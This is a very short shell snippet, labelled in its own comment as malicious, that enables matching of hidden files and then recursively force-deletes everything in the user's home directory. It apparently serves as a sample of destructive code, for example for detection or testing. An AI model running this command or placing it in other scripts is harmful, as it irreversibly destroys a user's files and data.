# Malicious: deletes everything in $HOME, hidden files included.
shopt -s dotglob
rm -rf "$HOME"/*
